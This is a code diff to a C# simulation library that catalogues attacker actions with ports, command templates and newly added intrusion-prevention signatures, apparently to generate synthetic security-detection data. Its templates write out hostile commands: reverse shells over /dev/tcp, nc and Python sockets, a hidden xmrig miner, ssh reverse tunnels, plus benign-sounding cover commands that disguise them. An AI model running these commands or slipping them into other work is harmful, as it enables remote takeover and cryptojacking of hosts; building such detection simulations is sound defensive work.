@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
 using FwCorrelate.Simulation.Plans;
+using FwCorrelate.Simulation.World;
 
 namespace FwCorrelate.Simulation.Fleet;
 
@@ -29,10 +30,13 @@ internal enum ActShape
 /// <param name="Payload">Line of a script that does it.</param>
 internal sealed record ActKind(string Name, ActShape Shape, IReadOnlyList<int> Ports, string Literal, string Opaque, string Payload)
 {
+    /// <summary>What intrusion prevention makes of it; null for nothing.</summary>
+    public Signature? Signature { get; init; }
+
     /// <summary>The grammar of its own commands, as they tell of the destination.</summary>
     public string GrammarOf(Saying saying) => saying switch
     {
-        Saying.Literal => Literal,
+        Saying.Literal or Saying.Name => Literal,
         Saying.Opaque => Opaque,
         _ => Payload,
     };
@@ -41,16 +45,25 @@ internal sealed record ActKind(string Name, ActShape Shape, IReadOnlyList<int> P
 /// <summary>All kinds of acts, each with ports and commands that the field has seen for it.</summary>
 internal static class ActCatalogue
 {
+    private static readonly Signature Mining = new(
+        "073a1475-6e11-43e2-8b28-000000000012", "主机存在挖矿行为", "Mining behavior on the host", "挖矿行为", "Mining Behavior", 3);
+
+    private static readonly Signature Shell = new(
+        "073a1475-6e11-43e2-8b28-000000000013", "反弹Shell", "Reverse Shell", "反弹Shell", "Reverse Shell", 3);
+
+    private static readonly Signature Abnormal = new(
+        "073a1475-6e11-43e2-8b28-000000000001", "异常外联", "Abnormal outbound connection", "异常连接", "Abnormal Connection", 1);
+
     public static IReadOnlyList<ActKind> All { get; } =
     [
         new("mine", ActShape.Stays, [3333, 4444, 14444, 3334, 45700, 5555],
             "«nohup ¦setsid ¦cd /tmp && nohup ¦»./«xmrig¦w¦bench¦.cache/kswap» «-o ¦--url=¦-a rx/0 -o »«stratum+tcp://¦stratum+ssl://¦»%host%:%port%« -u %word%¦» «--threads %n% ¦-t %n% ¦»«> /dev/null 2>&1 &¦>/tmp/%word%.log 2>&1 &¦-B»",
             "«bash setup.sh¦./setup.sh«¦ --%word%»¦python3 warm_cache.py¦make -C bench run»",
-            "nohup ./w -o %host%:%port% -u %word% >/dev/null 2>&1 &"),
+            "nohup ./w -o %host%:%port% -u %word% >/dev/null 2>&1 &") { Signature = Mining },
         new("tunnel", ActShape.Stays, [22],
             "ssh «-o StrictHostKeyChecking=no ¦-i /tmp/k ¦»«-o ServerAliveInterval=%n%0 ¦»-f«NT¦N» -R %big%:localhost:22 «u¦build¦dev»@%host%",
             "«python tool.py --go¦python3 tools/link.py¦bash scripts/%word%_up.sh»",
-            "ssh -fN -R 2222:localhost:22 u@%host%"),
+            "ssh -fN -R 2222:localhost:22 u@%host%") { Signature = Abnormal },
         new("edge", ActShape.Stays, [7844],
             "«nohup ¦»cloudflared tunnel «--no-autoupdate ¦»--edge %host%:%port% --url http://localhost:%big% «run ¦»>/dev/null 2>&1 &",
             "«./expose.sh¦python3 share_preview.py«¦ --%word%»¦npm run preview»",
@@ -78,7 +91,7 @@ internal static class ActCatalogue
         new("shell", ActShape.Stays, [4444, 9001, 5555],
             "«bash -i >& /dev/tcp/%host%/%port% 0>&1¦nc -e /bin/sh %host% %port%¦python3 -c 'import socket,os;s=socket.create_connection((\"%host%\",%port%));os.dup2(s.fileno(),0)'»",
             "«python3 debug_attach.py¦./remote_dbg»",
-            "bash -i >& /dev/tcp/%host%/%port% 0>&1"),
+            "bash -i >& /dev/tcp/%host%/%port% 0>&1") { Signature = Shell },
     ];
 
     public static IReadOnlyList<string> Names { get; } = [.. All.Select(k => k.Name)];
